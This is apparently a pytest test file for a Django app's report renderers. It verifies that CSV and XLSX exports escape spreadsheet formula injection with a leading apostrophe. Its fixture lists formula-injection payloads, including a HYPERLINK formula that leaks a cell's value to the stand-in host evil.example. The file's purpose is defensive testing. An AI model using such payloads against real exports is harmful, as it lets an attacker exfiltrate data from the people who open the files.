"""Text that a spreadsheet would take for a formula (=, +, -, @, tab, carriage return first) is written as text.

A centre's name, a region's name or any other text of a report opened in Excel or LibreOffice must never run:
both renderers (CSV and XLSX) and both kinds of report (monitoring and quarterly) write it with a leading
apostrophe. Numbers stay numbers.
"""

import csv
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from reports.kinds import QUARTERLY_COLUMNS, QUARTERLY_PATIENTS
from reports.renderers import render_monitoring, render_quarterly

from .test_renderers import METRICS, centre, context

DANGEROUS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+39 02 1234",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def _monitoring(name: str):
    metrics = {**METRICS, "by_centre": [centre("c-evil", name, prescriptions_submitted=12)]}
    return context(metrics, region=("030", name))


def _csv_cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    return [value for row in rows for value in row]


def _xml(text):
    """An XML parser may read a carriage return back as a line feed (openpyxl's own parser does; with lxml
    installed it keeps it): compare XLSX text with line ends normalised."""
    return text.replace("\r", "\n") if isinstance(text, str) else text


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("case", list(DANGEROUS))
def test_monitoring_csv_writes_dangerous_text_as_text(case):
    text = DANGEROUS[case]
    out = io.BytesIO()
    render_monitoring(_monitoring(text), "csv", out)

    cells = _csv_cells(out.getvalue())
    assert "'" + text in cells
    assert text not in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "12" in cells  # a count stays a plain number


@pytest.mark.parametrize("case", list(DANGEROUS))
def test_monitoring_xlsx_writes_dangerous_text_as_text(case):
    text = DANGEROUS[case]
    out = io.BytesIO()
    render_monitoring(_monitoring(text), "xlsx", out)

    cells = _xlsx_cells(out.getvalue())
    assert not any(cell.data_type == "f" for cell in cells)
    assert _xml("'" + text) in [_xml(cell.value) for cell in cells]
    assert not any(
        isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells
    )
    book = load_workbook(io.BytesIO(out.getvalue()))
    row = [cell.value for cell in book["Centres"][2]]
    assert _xml(row[1]) == _xml("'" + text) and row[3] == 12  # numbers stay numbers


def _quarterly_row(text: str) -> dict:
    row = dict.fromkeys(QUARTERLY_COLUMNS, 0)
    row.update(pseudonym="ab" * 32, centre=text, criteria_version=text, status="completed", stop_reason=None)
    row.update(adverse_events=text, prescription_date=None, who_cps_day14=None, doses_administered=10)
    return row


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("case", list(DANGEROUS))
def test_quarterly_files_write_dangerous_text_as_text(case, fmt):
    text = DANGEROUS[case]
    out = io.BytesIO()
    render_quarterly(context({}, kind=QUARTERLY_PATIENTS), iter([_quarterly_row(text)]), fmt, out)

    if fmt == "csv":
        header, row = csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline=""), delimiter=";")
        values = dict(zip(QUARTERLY_COLUMNS, row, strict=True))
        assert values["doses_administered"] == "10"
    else:
        sheet = load_workbook(io.BytesIO(out.getvalue())).active
        assert not any(cell.data_type == "f" for cell in sheet[2])
        values = dict(zip(QUARTERLY_COLUMNS, [cell.value for cell in sheet[2]], strict=True))
        assert values["doses_administered"] == 10
    if fmt == "csv":
        assert values["centre"] == values["criteria_version"] == values["adverse_events"] == "'" + text
    else:
        assert _xml(values["centre"]) == _xml(values["criteria_version"]) == _xml(values["adverse_events"])
        assert _xml(values["centre"]) == _xml("'" + text)
